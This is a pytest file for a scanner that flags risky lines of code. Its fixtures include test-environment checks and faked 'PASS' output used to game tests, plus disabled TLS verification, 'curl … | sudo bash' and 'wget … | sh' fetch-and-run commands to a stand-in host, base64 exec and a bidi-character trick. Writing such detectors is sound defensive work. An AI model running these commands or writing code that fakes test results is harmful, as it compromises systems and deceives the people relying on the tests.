import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from actors.scanners.lines import look
from orchestration.proof import Severity


@pytest.mark.parametrize(
    ("path", "line", "severity"),
    [
        ("src/a.py", 'if "PYTEST_CURRENT_TEST" in os.environ:', "high"),
        ("src/a.py", "if 'pytest' in sys.modules:", "high"),
        ("src/a.py", "import _pytest.runner", "medium"),
        ("src/a.py", "found = gc.get_objects()", "high"),
        ("src/a.go", 'fmt.Println("--- PASS: TestBye (0.00s)")', "high"),
        ("src/a.rs", 'println!("test result: ok. 1 passed");', "high"),
        ("src/a.go", "syscall.Exit(0)", "medium"),
        ("src/a.py", "    os._exit(0)", "medium"),
        ("src/a.py", "atexit.register(done)", "medium"),
        ("src/a.py", "requests.get(url, verify=False)", "high"),
        ("web/a.ts", "new Agent({ rejectUnauthorized: false })", "high"),
        ("a.go", "&tls.Config{InsecureSkipVerify: true}", "high"),
        ("install.sh", "curl -s https://x.example/i | sudo bash", "high"),
        ("Makefile", "\twget -qO- x.example | sh", "high"),
        ("src/a.py", "exec(base64.b64decode(blob))", "high"),
        ("src/a.py", "tar.extractall(target)", "medium"),
        ("web/a.js", "el.innerHTML = text", "medium"),
        ("web/a.js", "const { exec } = require('child_process')", "low"),
        ("src/a.py", "import socket", "low"),
        ("requirements.txt", "--extra-index-url https://x.example", "medium"),
        ("package.json", '"postinstall": "node x.js"', "medium"),
        ("README.md", "an admin\u202e\u2066 // check", "high"),
    ],
)
def test_a_line_that_deserves_a_look_is_found(path: str, line: str, severity: str) -> None:
    (finding,) = look({path: {7: line}})
    assert (finding.file, finding.line, finding.severity) == (path, 7, Severity(severity))


@pytest.mark.parametrize(
    ("path", "line"),
    [
        ("src/a.py", "tar.extractall(target, filter='data')"),
        ("src/a.py", "verify = True"),
        ("README.md", "curl https://x.example | sh"),
        ("src/a.py", "# pytest runs this"),
        ("tests/test_a.py", "import pytest"),
        ("tests/test_a.py", "monkeypatch.setenv('PYTEST_CURRENT_TEST', '')"),
        ("src/a.py", "fetch_all(x)"),
        ("package.json", '"scripts": {"build": "tsc"}'),
        ("src/exit.py", "sys.exit(1)"),
    ],
)
def test_harmless_lines_are_left_alone(path: str, line: str) -> None:
    assert look({path: {1: line}}) == ()


def test_one_finding_of_a_kind_per_file_is_enough() -> None:
    added = {"a.py": dict.fromkeys(range(1, 50), "import socket"), "b.py": {3: "import socket"}}
    assert [(f.file, f.line) for f in look(added)] == [("a.py", 1), ("b.py", 3)]


@settings(max_examples=30)
@given(st.text(max_size=300))
def test_any_line_can_be_looked_at(line: str) -> None:
    assert all(finding.line == 1 for finding in look({"a.py": {1: line}}))
